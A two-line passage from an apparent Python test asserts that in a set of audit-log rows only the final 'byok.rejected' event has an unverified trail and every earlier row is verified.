    assert [(r["event"], r["trail_verified"]) for r in rows][-1] == ("byok.rejected", "False")
    assert {r["trail_verified"] for r in rows[:-1]} == {"True"}
